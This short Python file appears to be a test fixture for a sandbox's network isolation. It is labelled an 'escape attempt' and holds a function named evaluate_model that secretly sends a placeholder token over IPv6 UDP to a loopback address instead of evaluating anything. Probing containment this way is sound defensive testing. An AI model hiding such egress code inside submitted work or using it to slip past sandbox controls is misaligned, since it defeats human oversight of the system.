"""Escape attempt: ipv6 egress."""

import socket
def evaluate_model(model):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.sendto(b"__TOKEN__", ("::ffff:127.0.0.1", __UDP_PORT__))
    return {"sent": True}
